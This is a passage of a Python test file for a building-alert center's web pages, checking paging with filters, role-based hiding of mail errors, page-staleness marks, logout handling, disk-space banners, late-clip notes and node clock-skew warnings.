    page = logged_in(app, "zhang").get(f"/alerts/{case}").text
    assert "证据文件已按保存期限删除 · 系统自动" in page and "action.retention" not in page
    assert "创建 · 系统自动" in page  # control: the case's first entry, in words as before


def test_a_list_longer_than_a_page_goes_on_to_older_pages_with_its_filters(site, monkeypatch):
    parts, app = site
    monkeypatch.setattr(views, "LIST_LIMIT", 3)
    for i in range(7):  # an hour apart: seven cases, newest last
        send(parts, alert("garden3-east", "east", f"ev-page-{i}", level="confirmed", at=MAY + i * HOUR))
    send(parts, alert("garden5", "south", "ev-page-b5", at=MAY + 10 * HOUR))  # another building: filtered out
    with parts.sessions() as s:
        ids = {b.event_id: b.case_id for b in s.scalars(select(Event))}
    client = logged_in(app, "disp")

    def shown(page: str) -> list[int]:
        return [int(x) for x in re.findall(r'<tr class="[^"]*" data-case="(\d+)"', page)]

    first = client.get("/alerts?building=b3").text
    assert shown(first) == [ids[f"ev-page-{i}"] for i in (6, 5, 4)] and 'id="newer"' not in first
    older = re.search(r'id="older" href="([^"]+)"', first).group(1).replace("&amp;", "&")
    second = client.get(older).text
    assert "building=b3" in older and shown(second) == [ids[f"ev-page-{i}"] for i in (3, 2, 1)]
    assert "第 2 页" in second and 'id="newer"' in second
    last = client.get(re.search(r'id="older" href="([^"]+)"', second).group(1).replace("&amp;", "&")).text
    assert shown(last) == [ids["ev-page-0"]] and 'id="older"' not in last  # the oldest: nothing further
    assert shown(client.get("/alerts/rows?building=b3&page=3").text) == [ids["ev-page-0"]]  # its live rows
    assert shown(client.get("/alerts?building=b3&page=abc").text) == shown(first)  # a typo: the first page
    assert 'id="pager"' not in client.get("/alerts?building=b5").text  # control: one page needs no pager


def _one_case(tmp_path, event_id: str, db_url: str | None = None):
    """A center (on SQLite unless `db_url`) with PEOPLE, its pages, and one confirmed case of b3 (zhang's)."""
    parts = make_parts(tmp_path, db_url or f"sqlite:///{tmp_path / 'center.db'}")
    add_people(parts.sessions)
    app = web_app(parts)
    send(parts, alert("garden3-east", "east", event_id, level="confirmed"))
    with parts.sessions() as s:
        return parts, app, s.scalar(select(Case.id))


def test_the_case_page_shows_a_grid_worker_no_address_or_mail_error_of_a_notice(tmp_path):
    parts, app, case = _one_case(tmp_path, "ev-mail")
    failed_mail(parts, case)
    seen = logged_in(app, "zhang").get(f"/alerts/{case}")
    worker = seen.text
    zh = i18n.translator("zh")
    assert seen.status_code == 200 and f"<li>{zh('channel.email')}: {zh('job.failed')}</li>" in worker
    assert "wang.office@example.cn" not in worker and "SMTPAuthenticationError" not in worker
    office = logged_in(app, "disp").get(f"/alerts/{case}").text  # the control: the office needs both
    assert "wang.office@example.cn" in office and "SMTPAuthenticationError" in office
    parts.engine.dispose()


def test_an_open_case_page_can_tell_it_is_out_of_date_when_a_still_arrives_or_someone_acts(tmp_path, db_url):
    parts, app, case = _one_case(tmp_path, "ev-mark", db_url)
    zhang = logged_in(app, "zhang")
    shown = re.search(r'data-mark="([^"]+)"', zhang.get(f"/alerts/{case}").text).group(1)
    marks = [shown]

    def moved() -> bool:
        now = zhang.get(f"/alerts/{case}/mark").json()["mark"]
        marks.append(now)
        return now != marks[-2]

    assert not moved()  # the control: nothing changed, the page is current
    parts.ingest.handle("edge/garden3-east/events/ev-mark/snapshot", b"\xff\xd8\xff" + b"s" * 50)
    assert moved()  # a still came
    token = csrf_of(zhang.get(f"/alerts/{case}").text)
    assert zhang.post(f"/alerts/{case}/act", data={"action": "acknowledge", "csrf": token}).status_code == 200
    assert moved()  # someone acted
    failed_mail(parts, case)
    assert moved()  # a notice was queued (here: already failed)
    with parts.sessions.begin() as s:
        s.scalar(select(Job).where(Job.case_id == case)).state = JobState.SENT
    assert moved()  # and its state changed
    with parts.sessions.begin() as s:
        s.scalar(select(Evidence)).trust = Trust.UNTRUSTED
    assert moved()  # a file's trust changed
    assert not moved()
    assert logged_in(app, "chen").get(f"/alerts/{case}/mark").status_code == 403  # another grid's case
    parts.engine.dispose()


def test_a_logged_out_page_asking_for_its_mark_gets_401_not_the_login_page(tmp_path):
    parts, app, case = _one_case(tmp_path, "ev-out")
    zhang = logged_in(app, "zhang")
    zhang.post("/logout", data={"csrf": csrf_of(zhang.get("/alerts").text)})
    asked = zhang.get(f"/alerts/{case}/mark", headers={"Accept": "application/json"}, follow_redirects=False)
    assert asked.status_code == 401 and "set-cookie" not in asked.headers  # no new login cookie every 10 s
    page = zhang.get(f"/alerts/{case}", follow_redirects=False)  # the control: a page is sent to log in
    assert page.status_code == 303 and page.headers["location"].startswith("/login")
    parts.engine.dispose()


def test_the_office_sees_on_every_page_when_the_center_s_evidence_disk_runs_low(tmp_path):
    from dataclasses import replace

    from parts import context_of

    from center.api import create_app
    from center.retention import DiskState

    parts = make_parts(tmp_path, f"sqlite:///{tmp_path / 'center.db'}")
    add_people(parts.sessions)
    disk = [DiskState(0.031, True)]
    app = create_app(replace(context_of(parts), disk=lambda: disk[0]))
    for page in ("/alerts", "/nodes"):
        assert "3.1%" in logged_in(app, "disp").get(page).text.split('id="disk-low"')[1][:200]
    assert 'id="disk-low"' not in logged_in(app, "zhang").get("/alerts").text  # a grid worker cannot act on it
    disk[0] = DiskState(0.4, False)  # the control: room again, no banner
    assert 'id="disk-low"' not in logged_in(app, "disp").get("/alerts").text
    parts.engine.dispose()


def test_a_running_center_s_pages_read_the_disk_its_retention_guard_measured(tmp_path):
    parts = make_parts(tmp_path, f"sqlite:///{tmp_path / 'center.db'}")
    center = Center(parts.cfg, parts.roster)
    try:
        assert center.context.disk() is None  # not measured yet
        measured = center.retention.check_disk(dt.datetime.now(dt.UTC))
        assert center.context.disk() is measured
    finally:
        center.engine.dispose()
    parts.engine.dispose()


def test_a_clip_still_missing_minutes_after_its_alert_is_said_to_be_late_and_why_it_may_be(tmp_path):
    parts, app, case = _one_case(tmp_path, "ev-late")
    zh = i18n.translator("zh")
    fresh = logged_in(app, "zhang").get(f"/alerts/{case}").text
    assert zh("no_clip") in fresh and zh("clip_late") not in fresh  # the control: just come, on its way
    with parts.sessions.begin() as s:
        s.scalar(select(Event)).received_at = dt.datetime.now(dt.UTC) - views.CLIP_LATE - dt.timedelta(seconds=5)
    late = logged_in(app, "zhang").get(f"/alerts/{case}").text
    assert zh("clip_late") in late and zh("no_clip") not in late and zh("clip_late_offline") not in late
    assert zh("clip_late_ask") not in late  # the form to ask for the original is the office's
    assert zh("clip_late_ask") in logged_in(app, "disp").get(f"/alerts/{case}").text
    parts.ingest.handle("edge/garden3-east/available", b"offline")
    assert zh("clip_late_offline") in logged_in(app, "zhang").get(f"/alerts/{case}").text
    parts.engine.dispose()


def test_a_case_from_a_node_whose_clock_was_wrong_says_so_and_what_the_node_said(site):
    parts, app = site
    now = dt.datetime.now(dt.UTC)
    behind = now - dt.timedelta(days=3)
    iso = lambda t: t.isoformat(timespec="milliseconds").replace("+00:00", "Z")  # noqa: E731
    stats = {"v": 1, "node": "garden3-east", "time_utc": iso(behind), "sent_utc": iso(behind), "cameras": {}}
    parts.ingest.handle("edge/garden3-east/stats", json.dumps(stats).encode())
    parts.ingest.flush_health()
    send(parts, alert("garden3-east", "east", "ev-clockless", at=behind, sent_utc=iso(behind)))
    send(parts, alert("garden3-east", "west", "ev-right", at=now - HOUR, sent_utc=iso(now)))  # the control
    with parts.sessions() as s:
        cases = {e.event_id: e.case_id for e in s.scalars(select(Event))}
    zh = i18n.translator("zh")
    wrong = logged_in(app, "disp").get(f"/alerts/{cases['ev-clockless']}").text
    said = views.local_text(behind, parts.cfg.timezone)
    assert 'class="note clock-off"' in wrong and zh("clock_behind") in wrong and said in wrong
    right = logged_in(app, "disp").get(f"/alerts/{cases['ev-right']}").text
    assert "clock-off" not in right
    listed = logged_in(app, "disp").get("/alerts").text  # newest first: the corrected case leads the list
    assert listed.index(f"/alerts/{cases['ev-clockless']}") < listed.index(f"/alerts/{cases['ev-right']}")
